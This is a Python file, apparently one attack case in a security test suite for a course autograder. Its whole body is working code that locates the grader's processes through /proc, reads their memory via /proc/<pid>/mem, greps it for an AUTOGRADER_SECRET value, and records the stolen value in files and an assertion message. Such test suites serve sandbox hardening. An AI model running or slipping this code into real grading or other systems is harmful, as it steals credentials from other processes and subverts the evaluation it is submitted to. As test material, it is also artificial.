"""Opens `/proc/<pid>/mem` of the grader's processes and searches it for the course secret.

family: reading
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="read_parent_memory_by_proc_mem"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    folders = ["/tmp", "/var/tmp", os.path.expanduser("~")]
    try:
        import pwd

        folders.append(pwd.getpwuid(os.getuid()).pw_dir)
    except Exception:
        pass
    for folder in folders:
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("ACHIEVED: " + "; ".join(_done[:5]))

def _graders():
    """The grader's own Python processes (ancestors and their children; else those that the command line names), no others."""
    import os

    def read(pid, what):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                return file.read()
        except OSError:
            return b""

    def argv(pid):
        return [os.fsdecode(part) for part in read(pid, "cmdline").split(b"\0") if part]

    def parent(pid):
        fields = read(pid, "stat").rpartition(b")")[2].split()
        return int(fields[1]) if len(fields) > 1 else 0

    def is_grader(pid, names):
        words = argv(pid)
        if pid <= 2 or pid == os.getpid() or not words or not os.path.basename(words[0]).startswith("python"):
            return False
        return any(word.startswith("autograder.") or os.path.basename(word) in names for word in words[1:4])

    names = {"autograder", "otter", "pytest", "py.test", "ipykernel_launcher"}
    found, pid = [], os.getppid()
    while pid > 2 and pid not in found and is_grader(pid, names):
        found.append(pid)
        pid = parent(pid)
    try:
        others = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        others = []
    for other in others:
        if other not in found and is_grader(other, names if found else {"autograder"}):
            if not found or parent(other) in found:
                found.append(other)
    return found

import re

_stolen = []
for _pid in _graders():
    try:
        with open(f"/proc/{_pid}/maps") as _maps, open(f"/proc/{_pid}/mem", "rb", 0) as _memory:
            for _line in _maps:
                if "rw" not in _line or ("heap" not in _line and _line.split()[-1].startswith("/")):
                    continue
                _low, _high = (int(x, 16) for x in _line.split()[0].split("-"))
                if _high - _low > 64 * 2**20:
                    continue
                try:
                    _memory.seek(_low)
                    _data = _memory.read(_high - _low)
                except OSError:
                    continue
                _found = re.search(rb"AUTOGRADER_SECRET=[^\0]{1,80}", _data)
                if _found or not _stolen:
                    _stolen.append(f"{len(_data)} bytes of process {_pid} {_found.group() if _found else _data[:8].hex()}")
    except Exception:
        continue
if _stolen:
    _achieved(_stolen[-1])
    raise AssertionError("STOLEN: " + _stolen[-1])
